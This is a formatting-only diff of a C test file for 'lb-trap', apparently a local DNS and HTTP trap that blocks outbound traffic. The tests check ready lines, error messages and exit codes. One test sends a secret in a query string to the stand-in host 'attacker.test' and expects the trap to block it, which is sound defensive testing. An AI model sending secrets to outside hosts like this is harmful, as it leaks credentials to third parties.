@@ -58,7 +58,7 @@ spawn(const char *const argv[], int *out_fd, int *err_fd)
 	posix_spawn_file_actions_adddup2(&fa, e[1], 2);
 	posix_spawn_file_actions_addopen(&fa, 0, "/dev/null", O_RDONLY, 0);
 	if (posix_spawn(&pid, argv[0], &fa, NULL, (char *const *)argv,
-	    (char *const *)clean_env) != 0)
+		(char *const *)clean_env) != 0)
 		pid = -1;
 	posix_spawn_file_actions_destroy(&fa);
 	close(o[1]);
@@ -294,14 +294,19 @@ test_running(void)
 		line[n] = '\0';
 		ready = strdup(line);
 	}
-	ok(sscanf(ready, "lb-trap: listening dns 127.0.0.1:%d http "
-	    "127.0.0.1:%d\n", &dport, &hport) == 2 && dport > 0 && hport > 0,
+	ok(sscanf(ready,
+	       "lb-trap: listening dns 127.0.0.1:%d http "
+	       "127.0.0.1:%d\n",
+	       &dport, &hport) == 2 &&
+		dport > 0 && hport > 0,
 	    "binary: ready line with the bound ports");
 	{
 		char want[128];
 
-		snprintf(want, sizeof(want), "lb-trap: listening dns "
-		    "127.0.0.1:%d http 127.0.0.1:%d\n", dport, hport);
+		snprintf(want, sizeof(want),
+		    "lb-trap: listening dns "
+		    "127.0.0.1:%d http 127.0.0.1:%d\n",
+		    dport, hport);
 		is_str(ready, want, "binary: ready line exact");
 	}
 	free(ready);
@@ -314,8 +319,8 @@ test_running(void)
 	is_int(rc, 0, "curl http: exits 0");
 	is_str(code, "403", "curl http: 403");
 	free(code);
-	rc = curl(proxy, path, "https://attacker.test/tls?k=SECRET",
-	    "SECRET=1", &code);
+	rc = curl(proxy, path, "https://attacker.test/tls?k=SECRET", "SECRET=1",
+	    &code);
 	is_int(rc, 0, "curl https: verified, exits 0");
 	is_str(code, "403", "curl https: 403");
 	free(code);
@@ -329,8 +334,8 @@ test_running(void)
 	got = drain(efd, now_ms() + 10000);
 	is_str(got, "", "binary: nothing on stderr");
 	free(got);
-	ok(waitpid(pid, &st, 0) == pid && WIFEXITED(st) &&
-	    WEXITSTATUS(st) == 0, "binary: SIGTERM ends it with 0");
+	ok(waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 0,
+	    "binary: SIGTERM ends it with 0");
 	close(ofd);
 	close(efd);
 
@@ -404,8 +409,10 @@ test_errors(void)
 	argv[3] = NULL;
 	rc = run(argv, &out, &err);
 	is_int(rc, 2, "usage: exit 2");
-	is_str(err, "lb-trap: option '--ca-out' is required\n"
-	    "try 'lb-trap --help'\n", "usage: message");
+	is_str(err,
+	    "lb-trap: option '--ca-out' is required\n"
+	    "try 'lb-trap --help'\n",
+	    "usage: message");
 	free(out);
 	free(err);
 
@@ -428,8 +435,10 @@ test_errors(void)
 	rc = run(argv, &out, &err);
 	is_int(rc, 1, "port taken: exit 1");
 	is_str(out, "", "port taken: no ready line");
-	snprintf(want, sizeof(want), "lb-trap: cannot bind '%s': address "
-	    "already in use\n", addr);
+	snprintf(want, sizeof(want),
+	    "lb-trap: cannot bind '%s': address "
+	    "already in use\n",
+	    addr);
 	is_str(err, want, "port taken: message");
 	free(out);
 	free(err);
@@ -439,8 +448,10 @@ test_errors(void)
 	argv[4] = "127.0.0.1:0";
 	rc = run(argv, &out, &err);
 	is_int(rc, 1, "address not ours: exit 1");
-	is_str(err, "lb-trap: cannot bind '10.255.255.1:0': cannot assign "
-	    "requested address\n", "address not ours: message");
+	is_str(err,
+	    "lb-trap: cannot bind '10.255.255.1:0': cannot assign "
+	    "requested address\n",
+	    "address not ours: message");
 	free(out);
 	free(err);
 
@@ -451,8 +462,10 @@ test_errors(void)
 	argv[6] = recdir;
 	rc = run(argv, &out, &err);
 	is_int(rc, 1, "records under a file: exit 1");
-	snprintf(want, sizeof(want), "lb-trap: cannot create records "
-	    "directory '%s': not a directory\n", recdir);
+	snprintf(want, sizeof(want),
+	    "lb-trap: cannot create records "
+	    "directory '%s': not a directory\n",
+	    recdir);
 	is_str(err, want, "records under a file: message");
 	free(out);
 	free(err);
@@ -477,7 +490,7 @@ main(void)
 	if (n <= 0)
 		return 1;
 	self[n] = '\0';
-	slash = strrchr(self, '/');	/* BUILD/unit/test_trap_bin */
+	slash = strrchr(self, '/'); /* BUILD/unit/test_trap_bin */
 	*slash = '\0';
 	slash = strrchr(self, '/');
 	*slash = '\0';
@@ -491,7 +504,7 @@ main(void)
 	clean_env[1] = home;
 	{
 		static const char *keep[] = { "ASAN_OPTIONS", "UBSAN_OPTIONS",
-		    "LSAN_OPTIONS" };
+			"LSAN_OPTIONS" };
 		static char kv[3][1024];
 		int k = 2;
 
